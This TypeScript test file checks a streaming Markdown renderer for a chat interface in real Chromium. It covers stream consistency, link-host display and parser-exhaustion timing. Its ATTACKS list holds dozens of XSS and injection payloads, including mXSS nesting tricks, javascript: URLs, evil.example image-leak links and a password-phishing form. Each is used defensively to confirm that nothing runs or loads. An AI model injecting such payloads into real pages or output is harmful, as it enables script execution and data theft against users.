/**
 * Markdown in a real Chromium: a DOM of tests has other parsers than browsers have, and what an attack needs is
 * the browser's own. Payloads follow published advisories on marked, DOMPurify and chat interfaces.
 */
import fc from 'fast-check';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ensureChromium } from '../../scripts/setup.mjs';
import { markdownScript } from './markdown-bundle.ts';

interface Markdown {
  createStreamRenderer(
    element: Element,
    edges?: { now: () => number; frame: (callback: () => void) => void },
  ): { append(text: string): void; end(): Promise<void> };
  renderedText(element: Element): string;
}
declare const markdown: Markdown;

let browser: Browser;
let page: Page;
const requests: string[] = [];

beforeAll(async () => {
  const script = await markdownScript();
  browser = await chromium.launch({ executablePath: ensureChromium(), args: ['--no-sandbox'] });
  page = await browser.newPage();
  await page.route('**', (route) => {
    requests.push(route.request().url());
    return route.abort();
  });
  await page.addScriptTag({ content: script });
  await page.evaluate(() => {
    Object.assign(window, { attacks: 0, alert: () => Object.assign(window, { attacks: 1 }) });
  });
});
beforeEach(() => {
  requests.length = 0;
});
afterAll(() => browser?.close());

/** HTML after rendering pieces, each in a frame of its own (frames are called by hand: a test cannot wait for 60 Hz). */
async function render(pieces: readonly string[]): Promise<string> {
  return page.evaluate(async (pieces) => {
    const element = document.createElement('div');
    document.body.replaceChildren(element);
    const waiting: (() => void)[] = [];
    const edges = { now: () => 0, frame: (callback: () => void) => void waiting.push(callback) };
    const renderer = markdown.createStreamRenderer(element, edges);
    for (const piece of pieces) {
      renderer.append(piece);
      for (const callback of waiting.splice(0)) callback();
    }
    void renderer.end();
    while (waiting.length > 0) for (const callback of waiting.splice(0)) callback();
    // What would load or run does so now.
    await new Promise((resolve) => setTimeout(resolve));
    return element.innerHTML;
  }, pieces);
}

/** What stands in the page that must never: names of elements and attributes outside the allow-list. */
async function intruders(): Promise<string[]> {
  return page.evaluate(() => {
    const tags =
      /^(P|BR|HR|STRONG|EM|DEL|CODE|PRE|BLOCKQUOTE|A|UL|OL|LI|H2|H3|H4|H5|H6|TABLE|THEAD|TBODY|TR|TH|TD|DIV|SPAN)$/;
    const attributes = /^(data-href|role|start|align|title|tabindex|class)$/;
    const found: string[] = [];
    for (const element of document.body.querySelectorAll('*')) {
      if (!tags.test(element.tagName)) found.push(`<${element.tagName}>`);
      for (const { name, value } of element.attributes) {
        if (!attributes.test(name)) found.push(`${element.tagName}[${name}]`);
        if (name === 'data-href' && !/^(https:\/\/|mailto:)/.test(value)) found.push(`data-href=${value}`);
        if (name === 'class' && !/^md-(host|table|plain|part|tie)$/.test(value)) found.push(`class=${value}`);
      }
      // A browser connects to what a link leads to when it is pointed at.
      if (element.tagName === 'A' && element.hasAttribute('href')) found.push('link that opens by itself');
    }
    if ((window as unknown as { attacks: number }).attacks !== 0) found.push('code ran');
    return found;
  });
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/leak?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/leak',
  '[![x](https://evil.example/i.png)](https://evil.example/)',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<link rel=prefetch href=https://evil.example/><link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<style>@import "https://evil.example/a.css"; *{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>',
  '<form action=https://evil.example/><input name=password><button>Envoyer</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<video src=https://evil.example/v.mp4 autoplay></video><audio src=https://evil.example/a.mp3>',
  '<p id=composer class=send data-ui=send>x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  '[x](https://evil.example/ "a\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[x](<https://evil.example/ onclick=alert(1)>)',
  '[https://service-public.fr](https://service-public.fr@evil.example/)',
  '[x](//evil.example/)',
  '[x](options.html)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `|` |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '> <script>alert(1)</script>',
  '<!-- --><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<x-foo is=script contenteditable onbeforeinput=alert(1) autofocus tabindex=1>x',
  '<a\nhref=javascript:alert(1)\n>x</a>',
  '<img\tsrc=https://evil.example/1.png\n>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<table><td><svg><desc><td><img src=x onerror=alert(1)>',
] as const;

describe('an attack in an answer', () => {
  it.each(ATTACKS)('does nothing at once or character by character: %s', async (attack) => {
    for (const text of [attack, `Voici :\n\n${attack}\n\nfin`, `- ${attack}`]) {
      const whole = await render([text]);
      expect(await intruders()).toEqual([]);
      const slowly = await render([...text]);
      expect(await intruders()).toEqual([]);
      expect(slowly).toBe(whole);
    }
    expect(requests).toEqual([]);
  });

  it('made of random pieces of attacks does nothing either', async () => {
    const parts = fc.constantFrom(
      ...ATTACKS.flatMap((attack) => attack.split(/(?=[<>[\]()"'\n])/u)),
      ...['\n', '\n\n', '    ', '> ', '- ', '```', '|', '<', '</', '&', '\u202e'],
    );
    const texts = fc.sample(fc.array(parts, { maxLength: 30 }), 250).map((found) => found.join(''));
    for (const text of texts) {
      await render([text]);
      expect({ text, found: await intruders() }).toEqual({ text, found: [] });
    }
    expect(requests).toEqual([]);
  }, 60_000);

  it('as raw HTML is shown as the text it is', async () => {
    await render(['Un <b>mot</b> et <script>alert(1)</script>\n\n<div>\nbloc\n</div>']);
    const text = await page.evaluate(() => document.body.textContent);
    expect(text).toContain('Un <b>mot</b> et <script>alert(1)</script>');
    expect(text).toContain('<div>');
  });
});

describe('links', () => {
  it('show their real host beside a text that could deceive', async () => {
    await render([
      '[service-public.fr](https://evil.example/) et [https://service-public.fr](https://evil.example/)',
    ]);
    const shown = await page.evaluate(() => [...document.querySelectorAll('a')].map((a) => a.textContent));
    expect(shown).toEqual(['service-public.fr (evil.example)', 'https://service-public.fr (evil.example)']);
  });

  it('show nothing more when their text is their address', async () => {
    await render(['Voir https://www.service-public.fr/particuliers et accueil@mairie.example.']);
    const shown = await page.evaluate(() => [...document.querySelectorAll('a')].map((a) => a.textContent));
    expect(shown).toEqual(['https://www.service-public.fr/particuliers', 'accueil@mairie.example']);
  });
});

describe('a streamed answer', () => {
  const block = fc.constantFrom(
    ...[
      'Bonjour **gras** et *maigre*.',
      'ligne une\nligne deux',
      '# Titre',
      '## Autre titre ##',
      'Titre\n=====',
    ],
    ...[
      '- un\n- deux\n  - trois\n\n    suite\n- quatre',
      '* a\n\n* b\n',
      '1. a\n2. b\n10. c',
      '1) x\n2) y',
      '- [x] fait',
    ],
    ...['| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |', 'texte\n| a |\n|---|\n| 1 |', '| a | b\n--|--\n1 | 2'],
    ...[
      '```js\nlet a = 1;\n\n- b\n```',
      '~~~\n```\n~~~',
      '````\n```\n````',
      '```\nsans fin',
      '- a\n  ```\n  code\n\n  x\n  ```\n- b',
    ],
    ...[
      '> cité\n> encore',
      '> - a\n> - b\n\nsuite',
      '---',
      '***',
      '    code\n\n    code',
      '\tcode',
      '-',
      '1.',
      '+ a\n- b',
    ],
    ...[
      '<div>\ntexte\n</div>',
      '[a]: https://exemple.fr',
      '[a][b] ![c](d)',
      '👩‍👩‍👧 « 10\u202f% »',
      '&amp; &lt;b&gt;',
    ],
    ...[
      `${'mot '.repeat(2000)}`,
      `- ${'mot '.repeat(2000)}`,
      'x'.repeat(7000),
      `${'une ligne\n'.repeat(600)}`,
    ],
    ...[
      `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(40)}`,
      `\`\`\`\n${'let a;\n'.repeat(900)}\`\`\``,
      'a\r\nb\r\n\r\n- c',
    ],
  );
  const text = fc
    .array(fc.tuple(block, fc.constantFrom('\n', '\n\n', '\n\n\n', '\n  ', '')), {
      minLength: 1,
      maxLength: 8,
    })
    .map((found) => found.flat().join(''));
  const cuts = fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 3, maxLength: 12 });

  it('gives the very nodes of a whole one, wherever it was cut', async () => {
    const cases = fc.sample(fc.tuple(text, cuts), 150);
    const different = await page.evaluate(async (cases) => {
      const html = async (text: string, lengths: number[], everyFrame: boolean): Promise<string> => {
        const element = document.createElement('div');
        const waiting: (() => void)[] = [];
        const edges = { now: () => 0, frame: (callback: () => void) => void waiting.push(callback) };
        const renderer = markdown.createStreamRenderer(element, edges);
        for (let at = 0, i = 0; at < text.length; i++) {
          // Long texts arrive in larger parts, so that the test ends.
          const length = (lengths[i % lengths.length] ?? 1) * (text.length > 3000 ? 37 : 1);
          renderer.append(text.slice(at, at + length));
          at += length;
          if (everyFrame) for (const callback of waiting.splice(0)) callback();
        }
        void renderer.end();
        while (waiting.length > 0) for (const callback of waiting.splice(0)) callback();
        return element.innerHTML;
      };
      for (const [text, lengths] of cases) {
        const whole = await html(text, [text.length], false);
        const streamed = await html(text, lengths, true);
        if (whole !== streamed) return { text, lengths, whole, streamed };
      }
      return null;
    }, cases);
    expect(different).toBeNull();
  }, 120_000);

  it('loses no word, wherever the renderer cuts a long text', async () => {
    const words = Array.from({ length: 12_000 }, (_, i) => `mot${i}`);
    for (const text of [
      words.join(' '),
      `- ${words.join(' ')}`,
      words.map((w) => `- ${w}`).join('\n'),
      `> ${words.join('\n> ')}`,
      `\`\`\`\n${words.join('\n')}\n\`\`\``,
      `| a |\n|---|\n${words.map((w) => `| ${w} |`).join('\n')}`,
      `- début\n${words.map((w) => `  - ${w}`).join('\n')}`,
    ]) {
      await render([text]);
      const seen = await page.evaluate(() => document.body.textContent?.match(/mot\d+/g)?.length);
      expect({ start: text.slice(0, 20), seen }).toEqual({ start: text.slice(0, 20), seen: words.length });
    }
  }, 60_000);
});

describe('headings', () => {
  it('skip no level, whatever the model wrote', async () => {
    await render(['#### a\n\ntexte\n\n## b\n\n###### c\n\n# d\n\n### e']);
    const levels = await page.evaluate(() =>
      [...document.querySelectorAll('h2,h3,h4,h5,h6')].map((h) => h.tagName),
    );
    expect(levels).toEqual(['H2', 'H3', 'H4', 'H2', 'H3']);
  });
});

describe('a text made to exhaust a parser', () => {
  const million = (unit: string): string => unit.repeat(Math.ceil(1_000_000 / unit.length));

  // Repeated when the machine was busy with something else.
  it.each([
    ['quotes', million('>')],
    ['quotes in lines', million(`${'>'.repeat(50)}\n`)],
    ['brackets', million('[')],
    ['unfinished links', million('[a](')],
    ['unfinished images', million('![a')],
    ['pipes', million('|')],
    ['wide tables', `${'|a'.repeat(500)}\n${'|-'.repeat(500)}\n${million(`${'|a'.repeat(500)}\n`)}`],
    ['stars', million('*a **b ')],
    ['backticks', million('`a``b')],
    ['lists in lists', million('- ')],
    [
      'deeper and deeper lists',
      Array.from({ length: 1400 }, (_, i) => `${'  '.repeat(i % 700)}- a`).join('\n'),
    ],
    ['ampersands', million('&')],
    ['addresses', million('https://a.b/(')],
    ['mail addresses', million('a@')],
    ['empty headings', million('# a\n')],
    ['underlines', million('a\n=')],
    ['a line without end', million('Le service reçoit la demande. ')],
  ])('stands in under 2 s and lets a click be answered within 200 ms: %s', { retry: 3 }, async (_, text) => {
    const { total, worst } = await page.evaluate(async (text) => {
      const scroller = document.createElement('div');
      scroller.setAttribute('style', 'height: 500px; width: 380px; overflow: auto; overflow-wrap: anywhere');
      const element = document.createElement('div');
      scroller.append(element);
      document.body.replaceChildren(scroller);
      let last = performance.now();
      let worst = 0;
      let over = false;
      const beat = (): void => {
        worst = Math.max(worst, performance.now() - last);
        last = performance.now();
        if (!over) setTimeout(beat);
      };
      beat();
      const started = performance.now();
      const renderer = markdown.createStreamRenderer(element);
      renderer.append(text);
      await renderer.end();
      const total = performance.now() - started;
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      over = true;
      return { total, worst };
    }, text);
    expect(total).toBeLessThan(2_000);
    expect(worst).toBeLessThan(200);
  });
});
